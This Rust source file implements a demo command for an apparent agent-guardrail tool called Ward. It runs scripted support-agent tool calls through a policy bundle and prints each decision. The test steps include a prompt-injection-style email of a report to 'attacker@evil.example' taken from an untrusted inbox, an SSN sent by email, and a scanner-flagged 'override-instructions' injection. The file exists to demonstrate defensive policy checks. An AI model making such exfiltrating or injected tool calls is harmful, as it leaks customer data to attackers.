//! `ward demo`: a scripted support agent against the embedded support bundle.
//!
//! It needs no files, servers or network: the bundle is compiled into the
//! binary, and each step prints the decision in plain words.

use std::fmt::Write as _;

use clap::Args;
use serde_json::{json, Value};
use ward_core::{Outcome, Request};
use ward_policy::{ArgProvenance, Facts, Finding, ProvenanceLabel};

use crate::files::write_out;
use crate::Failure;

const SUPPORT_BUNDLE: &str = include_str!("../../../examples/bundles/support/bundle.yaml");

#[derive(Debug, Args)]
pub(crate) struct DemoArgs {
    /// Decision time in Unix seconds, for reproducible output.
    #[arg(long, default_value_t = 1_795_309_830)]
    now: i64,
}

struct Step {
    says: &'static str,
    tool: &'static str,
    args: Value,
    roles: &'static [&'static str],
    context: Value,
    facts: Facts,
}

fn steps(now: i64) -> Vec<Step> {
    let facts = Facts {
        now,
        ..Facts::default()
    };
    let recent = json!({"order_age_days": 3});
    vec![
        Step {
            says: "look up order 8812",
            tool: "lookup_order",
            args: json!({"order_id": "8812"}),
            roles: &["support"],
            context: json!({}),
            facts: facts.clone(),
        },
        Step {
            says: "refund $120 on a 3-day-old order",
            tool: "approve_refund",
            args: json!({"order_id": "8812", "amount": 120.0}),
            roles: &["premium"],
            context: recent.clone(),
            facts: facts.clone(),
        },
        Step {
            says: "refund $750 on the same order",
            tool: "approve_refund",
            args: json!({"order_id": "8812", "amount": 750.0}),
            roles: &["premium"],
            context: recent.clone(),
            facts: facts.clone(),
        },
        Step {
            says: "refund $40 on a 45-day-old order",
            tool: "approve_refund",
            args: json!({"order_id": "7001", "amount": 40.0}),
            roles: &["premium"],
            context: json!({"order_age_days": 45}),
            facts: facts.clone(),
        },
        Step {
            says: "email the customer their SSN",
            tool: "send_email",
            args: json!({"to": "pat@example.com", "subject": "Your account", "body": "Your SSN 123-45-6789 is on file."}),
            roles: &["support"],
            context: json!({}),
            facts: facts.clone(),
        },
        Step {
            says: "email the report to an address found in a retrieved email",
            tool: "send_email",
            args: json!({"to": "attacker@evil.example", "subject": "Report", "body": "Attached."}),
            roles: &["support"],
            context: json!({}),
            facts: Facts {
                provenance: [(
                    "to".to_owned(),
                    ArgProvenance {
                        label: ProvenanceLabel::Untrusted,
                        sources: vec!["tool:read_inbox".into()],
                    },
                )]
                .into(),
                ..facts.clone()
            },
        },
        Step {
            says: "run a SQL report",
            tool: "sql_query",
            args: json!({"query": "select id, total from orders"}),
            roles: &["support"],
            context: json!({}),
            facts: facts.clone(),
        },
        Step {
            says: "look up an order id that a scanner flags as an injection",
            tool: "lookup_order",
            args: json!({"order_id": "8812"}),
            roles: &["support"],
            context: json!({}),
            facts: Facts {
                scan: vec![Finding {
                    kind: "injection".into(),
                    rule: "override-instructions".into(),
                    confidence: 0.93,
                    arg: Some("order_id".into()),
                }],
                ..facts.clone()
            },
        },
        Step {
            says: "call a tool that is not in the catalog",
            tool: "wire_transfer",
            args: json!({"amount": 1}),
            roles: &["support"],
            context: json!({}),
            facts,
        },
    ]
}

pub(crate) fn run(args: &DemoArgs, out: &mut dyn std::io::Write) -> Result<(), Failure> {
    let loaded = ward_policy::load(&[("support/bundle.yaml", SUPPORT_BUNDLE)])
        .map_err(|e| Failure::failed(e.to_string()))?;
    let policy = loaded.compiled.policy();
    let mut text = format!(
        "Ward demo: policy `{}` {} ({})\n\n",
        policy.name, policy.version, policy.digest
    );
    for (i, step) in steps(args.now).into_iter().enumerate() {
        let request = json!({
            "intervention": "pre_tool_call",
            "actor": {"principal": {"id": "u-123", "kind": "user", "roles": step.roles}, "tenant": "acme", "session": "s-demo", "agent": {"id": "support-bot", "version": "1.0.0"}},
            "tool": step.tool, "args": step.args, "context": step.context,
        });
        let bytes = serde_json::to_vec(&request).map_err(|e| Failure::failed(e.to_string()))?;
        let request = Request::from_json(&bytes).map_err(|e| Failure::failed(e.to_string()))?;
        let decision = ward_policy::decide(&loaded.compiled, &request, &step.facts);
        let _ = writeln!(text, "{}. The agent wants to {}.", i + 1, step.says);
        let verdict = match decision.outcome {
            Outcome::Allow => "Ward allows it.".to_owned(),
            Outcome::Deny => "Ward denies it.".to_owned(),
            Outcome::AllowWithConstraints => format!(
                "Ward allows it with constraints: {}.",
                serde_json::to_string(&decision.constraints).unwrap_or_default()
            ),
            Outcome::Remediate => format!(
                "Ward allows it only with rewritten arguments: {}.",
                serde_json::to_string(&decision.rewritten_args).unwrap_or_default()
            ),
            Outcome::RequireApproval => match &decision.approval {
                Some(a) => format!(
                    "Ward holds it for approval by {} (approval {} expires {}).",
                    a.approvers.join(", "),
                    a.id,
                    a.expires_at
                ),
                None => "Ward holds it for approval.".to_owned(),
            },
        };
        let _ = writeln!(text, "   {verdict}");
        for r in &decision.reasons {
            let _ = writeln!(
                text,
                "   - {} ({}{})",
                r.message,
                r.code.as_str(),
                r.rule
                    .as_ref()
                    .map(|id| format!(", rule {id}"))
                    .unwrap_or_default()
            );
        }
        text.push('\n');
    }
    text.push_str("Every decision above is a pure function of the request, the bundle and the facts: run it again and the bytes are the same.\n");
    write_out(out, &text)
}
